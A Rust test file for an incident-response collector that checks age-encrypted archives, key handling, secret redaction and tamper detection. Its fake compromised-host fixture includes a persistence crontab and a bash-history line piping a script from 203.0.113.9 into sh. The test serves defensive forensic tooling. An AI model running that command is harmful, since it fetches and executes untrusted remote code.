//! `collect --encrypt-to`, `verify --identity`, `report --identity`: the archive is
//! age-encrypted as it is written, the standard `age` tool opens it, and no secret ends up
//! anywhere. The `age`/`age-keygen` CLIs (Debian package `age`, see
//! scripts/install-test-deps.sh) are used when installed; otherwise the same checks run
//! through the `age` crate and the test says what it skipped.

use crate::harness::{RootBuilder, bin, irsnap};
use age::secrecy::ExposeSecret;
use serde_json::Value;
use sha2::Digest;
use std::io::{Cursor, Read};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

fn have(tool: &str) -> bool {
    Command::new(tool)
        .arg("--version")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

/// A key pair: the identity file (as age-keygen writes it) and the public key.
fn keypair(dir: &Path, name: &str) -> (PathBuf, String) {
    let path = dir.join(name);
    if have("age-keygen") {
        let st = Command::new("age-keygen")
            .arg("-o")
            .arg(&path)
            .stderr(Stdio::null())
            .status()
            .unwrap();
        assert!(st.success());
        let out = Command::new("age-keygen")
            .arg("-y")
            .arg(&path)
            .output()
            .unwrap();
        let public = String::from_utf8(out.stdout).unwrap().trim().to_string();
        return (path, public);
    }
    let id = age::x25519::Identity::generate();
    let public = id.to_public().to_string();
    std::fs::write(
        &path,
        format!(
            "# created: by the test\n# public key: {public}\n{}\n",
            id.to_string().expose_secret()
        ),
    )
    .unwrap();
    (path, public)
}

fn secret_of(key: &Path) -> String {
    std::fs::read_to_string(key)
        .unwrap()
        .lines()
        .find(|l| l.starts_with("AGE-SECRET-KEY-"))
        .unwrap()
        .to_string()
}

/// Decrypt with the standard `age` tool when installed, else with the crate.
fn decrypt(archive: &Path, key: &Path) -> Vec<u8> {
    if have("age") {
        let out = Command::new("age")
            .arg("-d")
            .arg("-i")
            .arg(key)
            .arg(archive)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "age -d: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        return out.stdout;
    }
    eprintln!("SKIPPED: age CLI not installed (scripts/install-test-deps.sh); using the crate");
    let id: age::x25519::Identity = secret_of(key).parse().unwrap();
    let d = age::Decryptor::new(std::fs::File::open(archive).unwrap()).unwrap();
    let mut out = Vec::new();
    d.decrypt(std::iter::once(&id as &dyn age::Identity))
        .unwrap()
        .read_to_end(&mut out)
        .unwrap();
    out
}

fn root() -> RootBuilder {
    let r = RootBuilder::new();
    r.write("etc/crontab", b"*/5 * * * * root /tmp/.x/stage.sh\n");
    r.write(
        "etc/passwd",
        b"root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
    );
    r.write(
        "home/alice/.bash_history",
        b"curl -s http://203.0.113.9/p.sh | sh\n",
    );
    // Several age chunks (64 KiB) of poorly compressible script, so a flipped byte in the
    // middle of the ciphertext lands in a member, not only in the last chunk.
    let mut script = b"#!/bin/sh\n".to_vec();
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    while script.len() < 900_000 {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        script.extend_from_slice(format!("echo {x:016x}\n").as_bytes());
    }
    r.write("tmp/.x/stage.sh", &script);
    r
}

/// `collect --json --root R -o OUT --encrypt-to ...`: the run, its JSON, the archive path.
fn collect_encrypted(root: &Path, out: &Path, recipients: &[&str]) -> (i32, Value, PathBuf) {
    let mut args = vec![
        "collect".to_string(),
        "--json".into(),
        "--root".into(),
        root.display().to_string(),
        "-o".into(),
        out.display().to_string(),
    ];
    for r in recipients {
        args.push("--encrypt-to".into());
        args.push(r.to_string());
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let run = irsnap(&args);
    let v: Value = serde_json::from_str(&run.stdout)
        .unwrap_or_else(|e| panic!("{e}: {} {}", run.stdout, run.stderr));
    let path = PathBuf::from(v["archive"].as_str().unwrap());
    (run.code, v, path)
}

fn files_in(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

fn open_zip(bytes: Vec<u8>) -> zip::ZipArchive<Cursor<Vec<u8>>> {
    zip::ZipArchive::new(Cursor::new(bytes)).expect("the decrypted archive is a zip")
}

fn member(zip: &mut zip::ZipArchive<Cursor<Vec<u8>>>, name: &str) -> Vec<u8> {
    let mut buf = Vec::new();
    zip.by_name(name).unwrap().read_to_end(&mut buf).unwrap();
    buf
}

#[test]
fn encrypted_collect_leaves_only_ciphertext_and_age_opens_it() {
    let work = tempfile::tempdir().unwrap();
    let (key1, pub1) = keypair(work.path(), "key1.txt");
    let (key2, pub2) = keypair(work.path(), "key2.txt");
    let r = root();
    let out = work.path().join("out");
    let (code, summary, archive) = collect_encrypted(r.path(), &out, &[&pub1, &pub2]);
    assert_eq!(code, 0, "{summary}");
    assert_eq!(summary["encrypted_to"], serde_json::json!([pub1, pub2]));

    // Only the ciphertext and its sidecar: no plaintext zip, no leftover partial.
    let name = archive.file_name().unwrap().to_str().unwrap().to_string();
    assert!(name.ends_with(".zip.age"), "{name}");
    assert_eq!(files_in(&out), vec![name.clone(), format!("{name}.sha256")]);
    let ct = std::fs::read(&archive).unwrap();
    assert!(ct.starts_with(b"age-encryption.org/v1\n"));
    // A zip stores member names in clear; the ciphertext must not.
    assert!(!ct.windows(13).any(|w| w == b"manifest.json"));
    assert!(!ct.windows(8).any(|w| w == b"stage.sh"));

    // The sidecar covers the encrypted file, in sha256sum's format.
    let sidecar = std::fs::read_to_string(out.join(format!("{name}.sha256"))).unwrap();
    let hex: String = sha2::Sha256::digest(&ct)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    assert_eq!(sidecar, format!("{hex}  {name}\n"));
    assert_eq!(summary["sha256"], hex);

    // The standard tool opens it with either key, and it is a complete archive.
    let plain1 = decrypt(&archive, &key1);
    let plain2 = decrypt(&archive, &key2);
    assert_eq!(plain1, plain2);
    assert!(plain1.starts_with(b"PK\x03\x04"));
    let mut zip = open_zip(plain1);
    let manifest: Value = serde_json::from_slice(&member(&mut zip, "manifest.json")).unwrap();
    assert_eq!(manifest["encryption"]["scheme"], "age");
    assert_eq!(
        manifest["encryption"]["recipients"],
        serde_json::json!([pub1, pub2])
    );
    let members: Vec<String> = manifest["members"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["path"].as_str().unwrap().to_string())
        .collect();
    assert!(
        members.iter().any(|m| m.ends_with("stage.sh")),
        "{members:?}"
    );
    let log = String::from_utf8(member(&mut zip, "collection.log")).unwrap();
    assert!(log.contains(&format!("encrypted with age to {pub1}, {pub2}")));

    // No secret anywhere inside: every member, decompressed.
    let secrets = [secret_of(&key1), secret_of(&key2)];
    for i in 0..zip.len() {
        let mut data = Vec::new();
        zip.by_index(i).unwrap().read_to_end(&mut data).unwrap();
        let text = String::from_utf8_lossy(&data);
        assert!(!text.contains("AGE-SECRET-KEY"), "member #{i}");
        for s in &secrets {
            assert!(!text.contains(&s[15..]));
        }
    }

    if have("unzip") {
        let plain = work.path().join("plain.zip");
        std::fs::write(&plain, decrypt(&archive, &key1)).unwrap();
        let st = Command::new("unzip")
            .arg("-tq")
            .arg(&plain)
            .stdout(Stdio::null())
            .status()
            .unwrap();
        assert!(st.success(), "unzip -t rejects the decrypted archive");
    }
}

#[test]
fn verify_report_export_and_stack_read_encrypted_archives_with_an_identity() {
    let work = tempfile::tempdir().unwrap();
    let (key, public) = keypair(work.path(), "key.txt");
    let (other, _) = keypair(work.path(), "other.txt");
    let r = root();
    let out = work.path().join("out");
    let (code, _, archive) = collect_encrypted(r.path(), &out, &[&public]);
    assert_eq!(code, 0);
    let a = archive.to_str().unwrap();
    let k = key.to_str().unwrap();

    let ok = irsnap(&["verify", "--identity", k, a]);
    assert_eq!(ok.code, 0, "{}{}", ok.stdout, ok.stderr);
    assert!(
        ok.stdout.contains("every chunk authenticate"),
        "{}",
        ok.stdout
    );
    let json = irsnap(&["verify", "--json", "--identity", k, a]);
    // A list: one object per archive.
    let list: Value = serde_json::from_str(&json.stdout).unwrap();
    let v = &list[0];
    assert_eq!(v["verdict"], "intact");
    assert_eq!(v["encryption"]["status"], "authenticated");
    assert!(v["members_checked"].as_u64().unwrap() >= 5);

    // Without a key: the sidecar is still checked, and verify says it could not look inside.
    let blind = irsnap(&["verify", a]);
    assert_eq!(blind.code, 1, "{}", blind.stdout);
    assert!(blind.stdout.contains("sidecar: archive SHA-256 matches"));
    assert!(blind.stdout.contains("NOT CHECKED"), "{}", blind.stdout);
    let wrong = irsnap(&["verify", "--identity", other.to_str().unwrap(), a]);
    assert_eq!(wrong.code, 1, "{}", wrong.stdout);
    assert!(wrong.stdout.contains("none of the given identities"));

    // The report renders from the encrypted archive.
    let report = irsnap(&["report", "--identity", k, "--format", "md", a]);
    assert_eq!(report.code, 0, "{}", report.stderr);
    assert!(report.stdout.contains("scheduled_tasks"));
    let html = work.path().join("r.html");
    let report = irsnap(&["report", "--identity", k, a, "-o", html.to_str().unwrap()]);
    assert_eq!(report.code, 0, "{}", report.stderr);
    assert!(std::fs::read_to_string(&html).unwrap().contains("<html"));
    let refused = irsnap(&["report", a]);
    assert_eq!(refused.code, 1);
    assert!(refused.stderr.contains("--identity"), "{}", refused.stderr);

    // export and stack read it the same way, and refuse it without a key.
    let csv = irsnap(&["export", "--identity", k, "--format", "csv", a]);
    assert_eq!(csv.code, 0, "{}", csv.stderr);
    assert!(csv.stdout.contains("/tmp/.x/stage.sh"), "{}", csv.stdout);
    let jsonl = irsnap(&[
        "export",
        "--identity",
        k,
        "--format",
        "jsonl",
        "--collector",
        "shell_history",
        a,
    ]);
    assert_eq!(jsonl.code, 0, "{}", jsonl.stderr);
    assert!(jsonl.stdout.contains("203.0.113.9"), "{}", jsonl.stdout);
    let refused = irsnap(&["export", a]);
    assert_eq!(refused.code, 1);
    assert!(refused.stderr.contains("--identity"), "{}", refused.stderr);
    let stacked = irsnap(&["stack", "--json", "--identity", k, a]);
    assert_eq!(stacked.code, 0, "{}", stacked.stderr);
    assert!(
        stacked.stdout.contains("/tmp/.x/stage.sh"),
        "{}",
        stacked.stdout
    );
    let refused = irsnap(&["stack", a]);
    assert_ne!(refused.code, 0);
    assert!(refused.stderr.contains("--identity"), "{}", refused.stderr);

    // A key file that does not parse is refused without showing its content.
    let secret = secret_of(&key);
    let damaged = work.path().join("damaged.txt");
    // The last character changed to another one (a fixed replacement is a no-op for the
    // one key in 32 that already ends in it).
    let last = if secret.ends_with('Q') { 'P' } else { 'Q' };
    std::fs::write(
        &damaged,
        format!("# mine\n{}{last}\n", &secret[..secret.len() - 1]),
    )
    .unwrap();
    let bad = irsnap(&["verify", "--identity", damaged.to_str().unwrap(), a]);
    assert_eq!(bad.code, 1);
    assert!(bad.stderr.contains("line 2"), "{}", bad.stderr);
    assert!(!bad.stderr.contains(&secret[15..40]) && !bad.stdout.contains(&secret[15..40]));

    // One flipped bit in the ciphertext: the sidecar and the age authentication both catch it.
    let flipped = work.path().join("flipped.zip.age");
    let mut ct = std::fs::read(&archive).unwrap();
    assert!(
        ct.len() > 3 * 65_536,
        "the archive spans several age chunks"
    );
    let mid = ct.len() / 2;
    ct[mid] ^= 0x01;
    std::fs::write(&flipped, &ct).unwrap();
    std::fs::copy(
        out.join(format!(
            "{}.sha256",
            archive.file_name().unwrap().to_str().unwrap()
        )),
        work.path().join("flipped.zip.age.sha256"),
    )
    .unwrap();
    let f = flipped.to_str().unwrap();
    let damaged_run = irsnap(&["verify", "--identity", k, f]);
    assert_eq!(damaged_run.code, 3, "{}", damaged_run.stdout);
    assert!(damaged_run.stdout.contains("SIDECAR MISMATCH"));
    assert!(
        damaged_run.stdout.contains("AGE DAMAGED"),
        "{}",
        damaged_run.stdout
    );
    // Even without a sidecar (and without a key), the damage is not passed as intact.
    std::fs::remove_file(work.path().join("flipped.zip.age.sha256")).unwrap();
    let no_sidecar = irsnap(&["verify", "--identity", k, f]);
    assert_eq!(no_sidecar.code, 3, "{}", no_sidecar.stdout);
    assert_ne!(irsnap(&["verify", f]).code, 0);
    // And the member it hit is named.
    assert!(
        no_sidecar.stdout.contains("UNREADABLE") || no_sidecar.stdout.contains("MISMATCH"),
        "{}",
        no_sidecar.stdout
    );

    // A truncated file (an age stream whose last chunk is missing) is damage too.
    let cut = work.path().join("cut.zip.age");
    std::fs::write(&cut, &ct[..65_536 * 2 + 300]).unwrap();
    assert_eq!(
        irsnap(&["verify", "--identity", k, cut.to_str().unwrap()]).code,
        3
    );
}

#[test]
fn a_bad_recipient_is_refused_before_anything_is_written() {
    let work = tempfile::tempdir().unwrap();
    let (key, public) = keypair(work.path(), "key.txt");
    let r = root();
    let out = work.path().join("out");
    let o = out.to_str().unwrap();
    let root = r.path().to_str().unwrap();

    let last = if public.ends_with('x') { 'y' } else { 'x' };
    let typo = format!("{}{last}", &public[..public.len() - 1]);
    let run = irsnap(&[
        "collect",
        "--root",
        root,
        "-o",
        o,
        "--encrypt-to",
        &public,
        "--encrypt-to",
        &typo,
    ]);
    assert_eq!(
        run.code, 64,
        "a bad flag value is a usage error: {}",
        run.stderr
    );
    assert!(
        run.stderr.contains(&typo),
        "the bad key is named: {}",
        run.stderr
    );
    assert!(!out.exists(), "nothing may be written");

    // A secret key pasted as the recipient is refused and not echoed.
    let secret = secret_of(&key);
    let run = irsnap(&["collect", "--root", root, "-o", o, "--encrypt-to", &secret]);
    assert_eq!(run.code, 64);
    assert!(run.stderr.contains("SECRET key"), "{}", run.stderr);
    assert!(!run.stderr.contains(&secret[15..]) && !run.stdout.contains(&secret[15..]));
    assert!(!out.exists());

    let run = irsnap(&[
        "collect",
        "--root",
        root,
        "-o",
        o,
        "--encrypt-to",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA user@host",
    ]);
    assert_eq!(run.code, 64);
    assert!(run.stderr.contains("not SSH keys"), "{}", run.stderr);
    assert!(!out.exists());
}

/// SIGTERM mid-run: the age stream is finished like the zip, so the interrupted archive is a
/// complete, decryptable file.
#[cfg(unix)]
#[test]
fn an_interrupted_encrypted_run_still_decrypts() {
    let work = tempfile::tempdir().unwrap();
    let (key, public) = keypair(work.path(), "key.txt");
    let r = root();
    // An "ELF" of 256 MiB (sparse), read at --low-impact's 16 MiB/s: the signal lands mid-file.
    let big = r.path().join("tmp/.x/payload");
    std::fs::write(&big, b"\x7fELF\x02\x01\x01").unwrap();
    std::fs::OpenOptions::new()
        .write(true)
        .open(&big)
        .unwrap()
        .set_len(256 << 20)
        .unwrap();
    let out = work.path().join("out");
    let child = Command::new(bin())
        .args(["collect", "--json", "--low-impact", "--root"])
        .arg(r.path())
        .arg("-o")
        .arg(&out)
        .args(["--encrypt-to", &public])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    std::thread::sleep(std::time::Duration::from_millis(1500));
    let pid = child.id().to_string();
    assert!(
        Command::new("kill")
            .args(["-TERM", &pid])
            .status()
            .unwrap()
            .success()
    );
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(4));
    let v: Value = serde_json::from_slice(&output.stdout).unwrap();
    let archive = PathBuf::from(v["archive"].as_str().unwrap());
    let name = archive.file_name().unwrap().to_str().unwrap().to_string();
    assert_eq!(files_in(&out), vec![name.clone(), format!("{name}.sha256")]);
    let mut zip = open_zip(decrypt(&archive, &key));
    let manifest: Value = serde_json::from_slice(&member(&mut zip, "manifest.json")).unwrap();
    assert_eq!(manifest["status"], "interrupted");
    let verify = irsnap(&[
        "verify",
        "--identity",
        key.to_str().unwrap(),
        archive.to_str().unwrap(),
    ]);
    assert_eq!(verify.code, 0, "{}", verify.stdout);
}
